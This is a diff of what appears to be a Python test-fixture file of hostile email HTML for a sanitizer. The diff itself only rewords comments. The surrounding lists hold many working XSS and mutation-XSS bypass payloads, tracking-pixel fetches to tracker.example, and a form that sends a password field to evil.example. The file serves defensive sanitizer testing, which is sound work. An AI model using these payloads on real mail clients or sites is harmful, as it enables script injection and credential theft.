@@ -1,4 +1,4 @@
-"""Hostile mails' HTML, by what it tries: each must leave nothing that runs, fetches, submits or covers."""
+"""Hostile mails' HTML, by attack: each must leave nothing that runs, fetches, submits or covers."""
 
 _JS = "javascript:alert(1)"
 _URL = "http://tracker.example/x.png"
@@ -61,7 +61,7 @@ HOSTILE = [
     "<a href='http://a.example' target=_top rel=opener>x</a>",
     "<a href='http://a.example' download=x.exe>x</a>",
     f"<map name=m><area shape=rect href='{_JS}' coords=0,0,9,9></map><img usemap=#m alt=x>",
-    # what fetches
+    # fetching
     f"<img src={_URL} alt=x>",
     "<img src=//tracker.example/x.png alt=x>",
     "<img src='\\\\tracker.example\\x.png' alt=x>",
@@ -132,7 +132,7 @@ HOSTILE = [
     "<style><img src=x onerror=alert(1)></style>",
     "<style></style\x00><img src=x onerror=alert(1)></style>",
     "<style><!--</style><img src=x onerror=alert(1)>--></style>",
-    # another language within, and what is parsed twice
+    # embedded foreign languages, and content that is parsed twice
     "<svg onload=alert(1)>",
     "<svg/onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
@@ -180,7 +180,7 @@ HOSTILE = [
     '<img alt="`><img src=x onerror=alert(1)>" src=cid:none>',
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    # forms, and what changes the page around it
+    # forms, and content that changes the page around it
     "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
     "<input onfocus=alert(1) autofocus><select onchange=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
     "<button form=login formaction=//evil.example/>x</button><keygen>",
@@ -189,7 +189,7 @@ HOSTILE = [
     "<dialog open>x</dialog><slot name=x></slot><p is=x-element slot=y part=z>x",
     "<p data-controller=x hx-get=/logout x-data=alert(1) v-html=x ng-app=y @click=alert(1) :href=x>x",
     "<a href='http://a.example' style='display:block;position:absolute;inset:0'>x</a>",
-    # what never ends
+    # unclosed content
     "<a href='http://a.example",
     "<img src='http://tracker.example/?",
     "<p style='color:red",
@@ -206,7 +206,7 @@ HOSTILE = [
 _RAN = "<img src=x onerror=alert(1)>"
 _OUT = "//tracker.example/x"
 
-# What is one thing where it is read first and another where it is read again, and further ways to fetch.
+# HTML that changes its meaning when it is parsed again, and further ways to fetch.
 MUTATING = [
     # text of one namespace is elements of another
     f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_RAN}'>",
@@ -230,7 +230,7 @@ MUTATING = [
     f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{_RAN}'></style></h1>",
     f"<form><math><mtext></form><form><mglyph><style></math>{_RAN}</style></mglyph></mtext></math></form>",
     f"<svg><math><title></svg><style><a title='</style>{_RAN}'></title></math>",
-    # what is raw text here and not there
+    # raw text in one context and not in another
     f"<noscript><style></noscript>{_RAN}</style>",
     f"<noscript><!-- </noscript>{_RAN} -->",
     f"<noscript><a title='</noscript>{_RAN}'></noscript>",
@@ -254,7 +254,7 @@ MUTATING = [
     f"<textarea><!--</textarea>{_RAN}--></textarea>",
     f"<listing>&lt;{_RAN[1:]}</listing>",
     f"<frameset><frame src=javascript:alert(1)></frameset>{_RAN}",
-    # comments, declarations, what no parser ends alike
+    # comments and declarations that parsers end differently
     f"<!--->{_RAN}-->",
     f"<!-- --!>{_RAN}<!-- -->",
     f"<!--<!-->{_RAN}-->",
@@ -283,7 +283,7 @@ MUTATING = [
     "<img src=data:image/png;base64,iVBORw0KGgo onerror=alert(1) onload=alert(1)>",
     "<script type=module>alert(1)</script><script type=importmap>{}</script><script nomodule src=//tracker.example/x></script>",
     "<link rel=import href=//tracker.example/x><link rel=modulepreload href=//tracker.example/x>",
-    # what fetches
+    # fetching
     f"<link rel=preload as=image href={_OUT}><link rel=preconnect href={_OUT}><link rel=prerender href={_OUT}>",
     f"<link rel='shortcut icon' href={_OUT}><link rel=manifest href={_OUT}><link rel=alternate href={_OUT}>",
     f"<img srcset='{_OUT} 1x, {_OUT}?2 2x' sizes=100vw alt=x><source srcset={_OUT}>",
